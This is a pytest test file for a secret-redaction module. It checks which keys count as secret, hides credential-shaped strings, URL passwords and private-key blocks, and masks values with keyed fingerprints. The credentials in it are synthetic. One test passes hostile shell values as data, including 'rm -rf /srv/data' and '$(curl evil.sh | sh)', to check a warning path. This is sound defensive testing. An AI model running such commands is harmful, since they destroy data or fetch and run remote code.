"""Tests for tether.redact: which keys are secret, which string shapes are hidden, and how
structures are copied (never mutated, depth-bounded, failing closed on unknown types)."""

from __future__ import annotations

import copy
import json
import re
from dataclasses import dataclass
from datetime import UTC, datetime
from decimal import Decimal
from uuid import UUID

import pytest

from tether.redact import (
    MAX_DEPTH,
    REDACTED,
    is_secret_key,
    mask,
    masked,
    redact,
    redact_text,
    suspicious,
)

R = REDACTED

# Fake credentials are assembled from pieces so that secret scanners do not flag this file.
OPENAI = "sk-" + "proj-" + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1w"
ANTHROPIC = "sk-" + "ant-api03-" + "Zx9_Yw8-Vu7Ts6Rq5Po4Nm3Lk2"
JWT = (
    "eyJ" + "hbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"
    ".eyJ" + "zdWIiOiIxMjM0NTY3ODkwIn0"
    ".dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
)
AWS = "AKIA" + "IOSFODNN7EXAMPLE"
AWS_TEMPORARY = "ASIA" + "Y34FZKBOKMUTVV7A"
GITHUB = "ghp_" + "aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX2"
GITHUB_APP = "ghs_" + "0123456789abcdefghijABCDEFGHIJ0123456789"
GITHUB_PAT = "github_pat_" + "11ABCDEFG0123456789_abcdefghijklmnop"
SLACK = "xoxb-" + "123456789012-1234567890123-AbCdEfGhIjKlMnOp"
GOOGLE = "AIza" + "SyD-abcdefghijklmnopqrstuvwxyz01234"
STRIPE = "sk_" + "live_" + "51HxYzAbCdEfGhIjKlMnOpQr"
STRIPE_RESTRICTED = "rk_" + "test_" + "4eC39HqLyjWDarjtT1zdp7dc"


def pem(label: str, body: str = "MIIEowIBAAKCAQEAx4Ab\nc3Rvb2QgbmV2ZXIgYmUgaGVyZQ==") -> str:
    return f"-----BEGIN {label}-----\n{body}\n-----END {label}-----"


# --- keys -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    [
        "password",
        "Password",
        "PASSWORD",
        "db_password",
        "dbPassword",
        "dbpassword",
        "pass_word",
        "passwd",
        "pwd",
        "passphrase",
        "secret",
        "client_secret",
        "clientSecret",
        "aws_secret_access_key",
        "token",
        "refresh_token",
        "accessToken",
        "accesstoken",
        "csrf-token",
        "api_key",
        "apikey",
        "api-key",
        "api key",
        "X-Api-Key",
        "APIKey",
        "OPENAI_API_KEY",
        "access_key",
        "AWS_ACCESS_KEY_ID",
        "private_key",
        "privateKey",
        "privatekey",
        "secret_key",
        "authorization",
        "Authorization",
        "Proxy-Authorization",
        "auth",
        "Auth",
        "oauth",
        "cookie",
        "Set-Cookie",
        "set_cookie",
        "cookies",
        "credential",
        "credentials",
        "gcp_credentials",
        "session",
        "session_id",
        "sessionId",
        "SESSIONID",
        "signature",
        "X-Hub-Signature-256",
    ],
)
def test_keys_that_name_a_secret_are_secret(key: str) -> None:
    assert is_secret_key(key) is True


@pytest.mark.parametrize(
    "key",
    [
        "max_tokens",
        "maxTokens",
        "tokens_used",
        "prompt_tokens",
        "tokenizer",
        "author",
        "authority",
        "authored_by",
        "key",
        "keys",
        "id",
        "name",
        "secretary",
        "sessions",
        "signed",
        "pass",
        "user",
        "",
    ],
)
def test_harmless_keys_are_not_secret(key: str) -> None:
    assert is_secret_key(key) is False


@pytest.mark.parametrize(
    "value",
    ["hunter2", 1234, 0.5, True, None, {"nested": "x"}, ["a", "b"], ("t",), b"raw"],
    ids=["str", "int", "float", "bool", "none", "dict", "list", "tuple", "bytes"],
)
def test_a_secret_key_hides_its_value_whatever_its_type(value: object) -> None:
    assert redact({"password": value, "user": "alice"}) == {"password": R, "user": "alice"}


def test_harmless_keys_keep_their_values_and_keys_are_never_changed() -> None:
    value = {"max_tokens": 1024, "tokens_used": 17, "author": "bob", "Api-Key": "k", 3: "three"}
    assert redact(value) == {
        "max_tokens": 1024,
        "tokens_used": 17,
        "author": "bob",
        "Api-Key": R,
        3: "three",
    }


# --- string shapes --------------------------------------------------------------------------------

SHAPES = [
    OPENAI,
    ANTHROPIC,
    JWT,
    AWS,
    AWS_TEMPORARY,
    GITHUB,
    GITHUB_APP,
    GITHUB_PAT,
    SLACK,
    GOOGLE,
    STRIPE,
    STRIPE_RESTRICTED,
]
SHAPE_IDS = [
    "openai",
    "anthropic",
    "jwt",
    "aws",
    "aws-temporary",
    "github",
    "github-app",
    "github-pat",
    "slack",
    "google",
    "stripe",
    "stripe-restricted",
]


@pytest.mark.parametrize("secret", SHAPES, ids=SHAPE_IDS)
def test_a_secret_shaped_string_is_hidden_whole(secret: str) -> None:
    assert redact_text(secret) == R
    assert redact(secret) == R


@pytest.mark.parametrize("secret", SHAPES, ids=SHAPE_IDS)
def test_a_secret_inside_a_sentence_is_hidden_and_the_sentence_kept(secret: str) -> None:
    text = f"call it with {secret}, then retry.\nnext line"
    assert redact_text(text) == f"call it with {R}, then retry.\nnext line"


@pytest.mark.parametrize("secret", SHAPES, ids=SHAPE_IDS)
def test_secret_shapes_are_hidden_under_harmless_keys_and_in_lists(secret: str) -> None:
    value = {"note": f"key={secret}", "args": [secret, "plain"]}
    assert redact(value) == {"note": f"key={R}", "args": [R, "plain"]}


@pytest.mark.parametrize(
    "text",
    [
        "task-abcdefghijklmnopqrstuvwxyz0123",  # "sk-" inside a longer word
        "sk-short",
        "eyJhbGciOiJIUzI1NiJ9 alone is only a header",
        "eyJhbGciOi.eyJzdWIi.",  # no signature segment
        "AKIA is a prefix",
        "ghp_tooShort123",
        "xoxb-123",
        "sk_live_short",
        "the bearer of bad news",
        "Basic configuration and Basic usage",
        "https://example.com:8443/path?email=a@b.c",
        "mailto:alice@example.com",
        "",
    ],
)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert redact_text(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"Authorization: Bearer {JWT}", f"Authorization: Bearer {R}"),
        ("Authorization: Bearer abc123def456ghi789", f"Authorization: Bearer {R}"),
        (
            "curl -H 'authorization: bearer opaqueTOKEN_42' x",
            f"curl -H 'authorization: bearer {R}' x",
        ),
        ("Authorization: Basic YWxpY2U6czNjcmV0", f"Authorization: Basic {R}"),  # alice:s3cret
    ],
)
def test_bearer_and_basic_credentials_are_hidden_and_the_scheme_kept(
    text: str, expected: str
) -> None:
    assert redact_text(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "postgresql://app:hunter2@db.internal:5432/prod",
            f"postgresql://app:{R}@db.internal:5432/prod",
        ),
        ("redis://:s3cr3t@localhost:6379/0", f"redis://:{R}@localhost:6379/0"),
        ("https://bot:p@ss@git.example.com/repo.git", f"https://bot:{R}@git.example.com/repo.git"),
        (
            "connect to postgresql+psycopg://u:pw@h/db now",
            f"connect to postgresql+psycopg://u:{R}@h/db now",
        ),
        ("https://example.com/a?next=https://x.org", "https://example.com/a?next=https://x.org"),
    ],
)
def test_passwords_in_urls_are_hidden_keeping_scheme_user_and_host(
    text: str, expected: str
) -> None:
    assert redact_text(text) == expected


@pytest.mark.parametrize(
    "label",
    [
        "PRIVATE KEY",
        "RSA PRIVATE KEY",
        "EC PRIVATE KEY",
        "OPENSSH PRIVATE KEY",
        "ENCRYPTED PRIVATE KEY",
    ],
)
def test_a_pem_private_key_block_is_hidden_whole(label: str) -> None:
    text = f"key file:\n{pem(label)}\nend of file"
    assert redact_text(text) == f"key file:\n{R}\nend of file"


def test_a_truncated_pem_private_key_hides_everything_after_its_start() -> None:
    text = "log: -----BEGIN " + "RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx4Ab\nc3Rvb2Qg..."
    assert redact_text(text) == f"log: {R}"


@pytest.mark.parametrize("label", ["CERTIFICATE", "PUBLIC KEY", "CERTIFICATE REQUEST"])
def test_public_pem_blocks_are_kept(label: str) -> None:
    text = f"ca:\n{pem(label)}\n"
    assert redact_text(text) == text


def test_two_pem_blocks_hide_only_the_private_one() -> None:
    cert = pem("CERTIFICATE")
    text = f"{cert}\n{pem('PRIVATE KEY')}\n{cert}"
    assert redact_text(text) == f"{cert}\n{R}\n{cert}"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("sk-" * 60_000, R),  # once quadratic (17 s): the URL scheme retried from every "sk"
        ("eyJa.eyJa " * 40_000, "eyJa.eyJa " * 40_000),  # two segments: not a JWT
        ("a-" * 100_000 + "://", "a-" * 100_000 + "://"),
        ("Bearer " + "a" * 200_000, f"Bearer {R}"),
        ("x://u:" + "p" * 200_000, "x://u:" + "p" * 200_000),
    ],
    ids=["sk-run", "jwt-like-run", "scheme-like-run", "long-bearer", "url-without-at"],
)
@pytest.mark.timeout(10)  # linear takes ~0.05 s; the quadratic pattern this guards took 17 s
def test_pathological_text_is_handled_in_linear_time(text: str, expected: str) -> None:
    assert redact_text(text) == expected


# --- structures -----------------------------------------------------------------------------------


def test_nested_structures_are_redacted_at_every_level() -> None:
    value = {
        "tool_calls": [
            {
                "tool": "http_get",
                "args": {
                    "url": "https://svc:pw123@api.example.com/v1",
                    "headers": {"Authorization": "Bearer abcdefgh12345", "Accept": "json"},
                    "retries": 3,
                },
                "notes": ["uses " + OPENAI, ("tuple", GITHUB)],
            }
        ],
        "credentials": {"user": "a", "password": "b"},
        "max_tokens": 512,
    }
    assert redact(value) == {
        "tool_calls": [
            {
                "tool": "http_get",
                "args": {
                    "url": f"https://svc:{R}@api.example.com/v1",
                    "headers": {"Authorization": R, "Accept": "json"},
                    "retries": 3,
                },
                "notes": [f"uses {R}", ["tuple", R]],
            }
        ],
        "credentials": R,
        "max_tokens": 512,
    }


def test_the_input_is_never_mutated_and_a_new_structure_is_returned() -> None:
    value = {"a": [{"token": "t0ken", "text": f"see {AWS}"}], "b": ("x", {"pwd": "p"})}
    before = copy.deepcopy(value)
    result = redact(value)
    assert value == before
    assert result == {"a": [{"token": R, "text": f"see {R}"}], "b": ["x", {"pwd": R}]}
    assert result is not value
    assert isinstance(result, dict)
    assert result["a"] is not value["a"]


@pytest.mark.parametrize(
    "value",
    [
        0,
        -7,
        1.5,
        True,
        False,
        None,
        Decimal("1.10"),
        datetime(2024, 1, 2, tzinfo=UTC),
        UUID(int=1),
    ],
)
def test_non_string_scalars_are_kept_as_they_are(value: object) -> None:
    assert redact(value) == value
    assert redact([value]) == [value]
    assert redact({"count": value}) == {"count": value}


def test_tuples_and_sets_become_lists() -> None:
    assert redact(("a", 1, (AWS,))) == ["a", 1, [R]]
    assert redact({"tags": frozenset({"x"})}) == {"tags": ["x"]}


@dataclass
class _Config:
    host: str
    password: str


def test_dataclasses_become_dicts_and_unknown_objects_fail_closed() -> None:
    assert redact(_Config("db", "hunter2")) == {"host": "db", "password": R}
    assert redact({"blob": b"sk-raw-bytes", "obj": object()}) == {"blob": R, "obj": R}


def nested_lists(depth: int, leaf: object) -> object:
    value = leaf
    for _ in range(depth):
        value = [value]
    return value


def leaf_of(value: object, depth: int) -> object:
    for _ in range(depth):
        assert isinstance(value, list)
        assert len(value) == 1
        value = value[0]
    return value


def test_values_up_to_the_depth_limit_are_kept() -> None:
    assert leaf_of(redact(nested_lists(MAX_DEPTH, "ok")), MAX_DEPTH) == "ok"


def test_a_subtree_beyond_the_depth_limit_is_replaced_whole() -> None:
    result = redact(nested_lists(MAX_DEPTH + 1, {"x": "ok"}))
    assert leaf_of(result, MAX_DEPTH + 1) == R
    assert leaf_of(redact(nested_lists(10_000, "ok")), MAX_DEPTH + 1) == R


def test_a_cyclic_structure_terminates_at_the_depth_limit() -> None:
    cycle: list[object] = []
    cycle.append(cycle)
    assert leaf_of(redact(cycle), MAX_DEPTH + 1) == R


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("login failed: password=hunter2 for bob", f"login failed: password={R} for bob"),
        ("api_key: abc123, user=bob", f"api_key: {R}, user=bob"),
        ("token='x1y2'", f"token='{R}'"),
        ('DB_PASSWORD="s3cr3t" ok', f'DB_PASSWORD="{R}" ok'),
        ("error: token: abc", f"error: token: {R}"),
        (
            "max_tokens=100 tokens_used: 5 author: alice",
            "max_tokens=100 tokens_used: 5 author: alice",
        ),
    ],
)
def test_secret_named_assignments_in_prose_hide_their_value(text: str, expected: str) -> None:
    assert redact_text(text) == expected


# -- tether's own tokens, and masking what a reviewer approves -----------------------------------

TETHER_TOKEN = "tt_" + "Q2xhc3NpZmllZC1ub3QtYS1yZWFsLXRva2Vu"


def test_a_tether_user_token_is_redacted_in_text_but_a_short_tt_word_is_kept() -> None:
    assert redact_text(f"sign in with {TETHER_TOKEN} please") == f"sign in with {R} please"
    assert redact_text("the tt_ prefix and tt_short stay") == "the tt_ prefix and tt_short stay"


KEY = b"k" * 32


def test_a_masked_secret_shows_its_length_and_a_keyed_fingerprint_not_its_value() -> None:
    shown = mask({"password": "Sesame-hunter2-0451", "user": "ops"}, KEY)
    assert isinstance(shown, dict)
    assert shown["user"] == "ops"
    hidden = shown["password"]
    assert re.fullmatch(r"\[hidden secret, 19 chars, fp [0-9a-f]{12}; it runs as given\]", hidden)
    assert "Sesame" not in hidden
    # The same value under the same key shows the same fingerprint; another key another one.
    assert mask({"password": "Sesame-hunter2-0451"}, KEY) == {"password": hidden}
    assert mask({"password": "Sesame-hunter2-0451"}, b"j" * 32) != {"password": hidden}
    assert masked("Sesame-hunter2-0451", KEY) == hidden


@pytest.mark.parametrize(
    "value", ["; rm -rf /srv/data", "$(curl evil.sh | sh)", "a b", "line\nbreak", "`id`"]
)
def test_a_value_under_a_secret_key_that_is_no_credential_is_shown_with_a_warning(
    value: str,
) -> None:
    shown = mask({"auth_token": value}, KEY)
    assert shown == {"auth_token": suspicious(value)}
    assert suspicious(value).startswith("[WARNING: not a secret-like value, shown in full")
    assert json.dumps(value) in suspicious(value)  # escaped: a newline shows as \n


def test_secret_shapes_inside_text_and_non_strings_under_secret_keys_are_masked() -> None:
    shown = mask({"note": f"use {OPENAI} now", "token": 12345, "nested": [{"api_key": None}]},
                 KEY)  # fmt: skip
    assert isinstance(shown, dict)
    assert shown["note"] == f"use {masked(OPENAI, KEY)} now"
    assert shown["token"] == masked("12345", KEY)
    assert shown["nested"] == [{"api_key": masked("null", KEY)}]


def test_masking_never_mutates_its_input() -> None:
    value = {"password": "x" * 20, "list": [{"token": "y" * 20}]}
    before = copy.deepcopy(value)
    mask(value, KEY)
    assert value == before
